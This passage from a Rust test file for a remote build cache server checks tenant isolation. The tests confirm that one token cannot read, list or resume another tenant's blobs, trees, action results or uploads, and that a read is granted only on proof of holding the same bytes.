    digest: &Digest,
    data: &[u8],
) -> Result<i64, tonic::Status> {
    let name = resource_name::write_name(
        "",
        &uuid::Uuid::new_v4().to_string(),
        digest,
        Compressor::Identity,
    );
    let requests = write_requests(&name, data, 0, 7, true);
    c.bs.write(bearer(tokio_stream::iter(requests), token))
        .await
        .map(|r| r.into_inner().committed_size)
}

async fn get_tree_as(
    c: &mut Clients,
    token: &str,
    root: &Digest,
) -> Result<Vec<Directory>, tonic::Status> {
    let mut stream = c
        .cas
        .get_tree(bearer(
            GetTreeRequest {
                root_digest: Some(root.to_reapi()),
                ..Default::default()
            },
            token,
        ))
        .await?
        .into_inner();
    let mut directories = Vec::new();
    while let Some(page) = stream.message().await? {
        directories.extend(page.directories);
    }
    Ok(directories)
}

#[tokio::test]
async fn a_token_reads_only_the_blobs_it_uploaded_or_was_served() {
    let server = TestServer::start_with(with_tenants).await;
    let mut c = Clients::new(server.channel().await);
    // Tenant A's sources: a blob by batch, a file by ByteStream, a tree naming the file.
    let secret = put_as(&mut c, TOKEN_A, b"tenant a's secret source").await;
    let file_bytes = b"tenant a's binary, written by bytestream".to_vec();
    let file = SHA.digest_of(&file_bytes);
    bytestream_write_as(&mut c, TOKEN_A, &file, &file_bytes)
        .await
        .unwrap();
    let (subdir, subdir_bytes) = dir_bytes(&Directory {
        files: vec![FileNode {
            name: "bin".into(),
            digest: Some(file.to_reapi()),
            ..Default::default()
        }],
        ..Default::default()
    });
    let (root, root_bytes) = dir_bytes(&Directory {
        directories: vec![DirectoryNode {
            name: "sub".into(),
            digest: Some(subdir.to_reapi()),
        }],
        ..Default::default()
    });
    put_as(&mut c, TOKEN_A, &subdir_bytes).await;
    put_as(&mut c, TOKEN_A, &root_bytes).await;
    let never = SHA.digest_of(b"never stored anywhere");
    let a_blobs = [secret, file, subdir, root];

    // A reads its own.
    assert!(missing_as(&mut c, TOKEN_A, &a_blobs).await.is_empty());
    assert!(
        batch_read_as(&mut c, TOKEN_A, &a_blobs)
            .await
            .iter()
            .all(|(code, _)| *code == 0)
    );
    assert_eq!(get_tree_as(&mut c, TOKEN_A, &root).await.unwrap().len(), 2);

    // B knows the digests, not the bytes: every read answers as for a blob never stored.
    let mut asked = a_blobs.to_vec();
    asked.push(never);
    assert_eq!(missing_as(&mut c, TOKEN_B, &asked).await, asked);
    let reads = batch_read_as(&mut c, TOKEN_B, &asked).await;
    for (code, data) in &reads {
        assert_eq!(*code, Code::NotFound as i32, "{reads:?}");
        assert!(data.is_empty());
    }
    for digest in [secret, file, never] {
        assert_eq!(
            bytestream_refusal_as(&mut c, TOKEN_B, &digest).await,
            Code::NotFound
        );
    }
    assert_eq!(
        get_tree_as(&mut c, TOKEN_B, &root)
            .await
            .unwrap_err()
            .code(),
        Code::NotFound
    );
    assert_eq!(
        get_tree_as(&mut c, TOKEN_B, &never)
            .await
            .unwrap_err()
            .code(),
        Code::NotFound
    );
    let status =
        c.bs.query_write_status(bearer(
            QueryWriteStatusRequest {
                resource_name: resource_name::write_name(
                    "",
                    &uuid::Uuid::new_v4().to_string(),
                    &secret,
                    Compressor::Identity,
                ),
            },
            TOKEN_B,
        ))
        .await
        .unwrap()
        .into_inner();
    assert!(!status.complete, "existence leaks through QueryWriteStatus");

    // Proof of possession: B claims A's file over ByteStream with other bytes: refused, nothing
    // granted; with the real bytes it earns the read.
    let mut lie = file_bytes.clone();
    lie[0] ^= 1;
    assert_eq!(
        bytestream_write_as(&mut c, TOKEN_B, &file, &lie)
            .await
            .unwrap_err()
            .code(),
        Code::InvalidArgument
    );
    assert_eq!(
        bytestream_refusal_as(&mut c, TOKEN_B, &file).await,
        Code::NotFound
    );
    bytestream_write_as(&mut c, TOKEN_B, &file, &file_bytes)
        .await
        .unwrap();
    assert_eq!(
        bytestream_read_as(&mut c, TOKEN_B, &file).await.unwrap(),
        file_bytes
    );
    put_as(&mut c, TOKEN_B, b"tenant a's secret source").await;
    assert_eq!(
        batch_read_as(&mut c, TOKEN_B, &[secret]).await[0],
        (0, b"tenant a's secret source".to_vec())
    );
    // Its own root, but A's subdirectory stays hidden inside the tree (like a missing one).
    put_as(&mut c, TOKEN_B, &root_bytes).await;
    assert_eq!(get_tree_as(&mut c, TOKEN_B, &root).await.unwrap().len(), 1);
    assert_eq!(missing_as(&mut c, TOKEN_B, &a_blobs).await, vec![subdir]);

    // The operator ("*") reads everything; C reads what A may (it lists token:a).
    assert!(missing_as(&mut c, TOKEN_OPS, &a_blobs).await.is_empty());
    assert_eq!(
        get_tree_as(&mut c, TOKEN_OPS, &root).await.unwrap().len(),
        2
    );
    assert!(
        batch_read_as(&mut c, TOKEN_C, &a_blobs)
            .await
            .iter()
            .all(|(code, _)| *code == 0)
    );
}

#[tokio::test]
async fn action_results_are_served_to_their_tenant_and_grant_their_blobs() {
    let server = TestServer::start_with(with_tenants).await;
    let mut c = Clients::new(server.channel().await);
    let output = put_as(&mut c, TOKEN_A, b"a's output").await;
    let action = SHA.digest_of(b"a's action");
    let update = |result: ActionResult| UpdateActionResultRequest {
        action_digest: Some(action.to_reapi()),
        action_result: Some(result),
        ..Default::default()
    };
    // B cannot store a result naming A's blob (whoever is served it would be granted it).
    let refused =
        c.ac.update_action_result(bearer(
            update(action_result(&[("out", output)], None, None)),
            TOKEN_B,
        ))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::FailedPrecondition);
    // Nor one whose output tree is A's (even if B holds every file it lists).
    let shared_file = put_as(&mut c, TOKEN_B, b"a file both hold").await;
    put_as(&mut c, TOKEN_A, b"a file both hold").await;
    let tree = Tree {
        root: Some(Directory {
            files: vec![FileNode {
                name: "f".into(),
                digest: Some(shared_file.to_reapi()),
                ..Default::default()
            }],
            ..Default::default()
        }),
        children: vec![],
    };
    let tree = put_as(&mut c, TOKEN_A, &tree.encode_to_vec()).await;
    let refused =
        c.ac.update_action_result(bearer(
            update(action_result(&[], Some(tree), None)),
            TOKEN_B,
        ))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::FailedPrecondition);
    c.ac.update_action_result(bearer(
        update(action_result(&[("out", output)], None, None)),
        TOKEN_A,
    ))
    .await
    .unwrap();
    let get = GetActionResultRequest {
        action_digest: Some(action.to_reapi()),
        ..Default::default()
    };
    // A's result is A's: B is not served it.
    assert_eq!(
        c.ac.get_action_result(bearer(get.clone(), TOKEN_B))
            .await
            .unwrap_err()
            .code(),
        Code::NotFound
    );
    let reads = &server.running().embedded.as_ref().unwrap().reads;
    assert!(!reads.may_read("token:c", &output).unwrap());
    let served =
        c.ac.get_action_result(bearer(get.clone(), TOKEN_A))
            .await
            .unwrap()
            .into_inner();
    assert_eq!(served.output_files[0].digest, Some(output.to_reapi()));
    // C lists token:a: served A's result, and granted its blobs as its own.
    c.ac.get_action_result(bearer(get.clone(), TOKEN_C))
        .await
        .unwrap();
    assert!(reads.may_read("token:c", &output).unwrap());
    assert!(!reads.may_read("token:b", &output).unwrap());
    // B stores its own result for the same action: each tenant is served its own.
    let b_output = put_as(&mut c, TOKEN_B, b"b's output").await;
    c.ac.update_action_result(bearer(
        update(action_result(&[("out", b_output)], None, None)),
        TOKEN_B,
    ))
    .await
    .unwrap();
    let for_b =
        c.ac.get_action_result(bearer(get.clone(), TOKEN_B))
            .await
            .unwrap()
            .into_inner();
    assert_eq!(for_b.output_files[0].digest, Some(b_output.to_reapi()));
    let for_a =
        c.ac.get_action_result(bearer(get, TOKEN_A))
            .await
            .unwrap()
            .into_inner();
    assert_eq!(for_a.output_files[0].digest, Some(output.to_reapi()));
}

/// A parked upload is its tenant's: another tenant naming the same `uploads/{uuid}` (the
/// client's choice, and it may be seen) neither reads its progress, nor finishes it with the
/// tail alone (which would have granted it the whole blob), nor restarts it; the owner then
/// resumes and commits as if nobody had tried.
#[tokio::test]
async fn another_tenant_cannot_resume_restart_or_watch_an_upload() {
    let server = TestServer::start_with(with_tenants).await;
    let mut c = server.clients().await;
    let data = noise(300_000, 77);
    let digest = SHA.digest_of(&data);
    let name = resource_name::write_name("", "shared-uuid", &digest, Compressor::Identity);
    let half = data.len() / 2;
    let write = |start: usize, finish: bool, token: &str| {
        let wire = if finish { &data[..] } else { &data[..half] };
        bearer(
            tokio_stream::iter(write_requests(&name, wire, start, 50_000, finish)),
            token,
        )
    };
    let committed = |token: &str| {
        bearer(
            QueryWriteStatusRequest {
                resource_name: name.clone(),
            },
            token,
        )
    };
    // A sends the first half; the stream ends without finish_write.
    let status = c.bs.write(write(0, false, TOKEN_A)).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
    let a_state = c.bs.query_write_status(committed(TOKEN_A)).await.unwrap();
    assert_eq!(a_state.into_inner().committed_size, half as i64);

    // B sees nothing of it, cannot finish it with the tail, and starts its own from 0.
    let b_state = c.bs.query_write_status(committed(TOKEN_B)).await.unwrap();
    assert_eq!(b_state.into_inner().committed_size, 0);
    let status = c.bs.write(write(half, true, TOKEN_B)).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
    assert!(
        status.message().contains("no upload to resume"),
        "{status:?}"
    );
    assert_eq!(
        bytestream_refusal_as(&mut c, TOKEN_B, &digest).await,
        Code::NotFound
    );
    let status = c.bs.write(write(0, false, TOKEN_B)).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");

    // A's upload is as A left it: resumed at its offset, committed, A's to read.
    let a_state = c.bs.query_write_status(committed(TOKEN_A)).await.unwrap();
    assert_eq!(a_state.into_inner().committed_size, half as i64);
    let done = c.bs.write(write(half, true, TOKEN_A)).await.unwrap();
    assert_eq!(done.into_inner().committed_size, data.len() as i64);
    assert_eq!(
        bytestream_read_as(&mut c, TOKEN_A, &digest).await.unwrap(),
        data
    );
    assert_eq!(
        bytestream_refusal_as(&mut c, TOKEN_B, &digest).await,
        Code::NotFound
    );
}
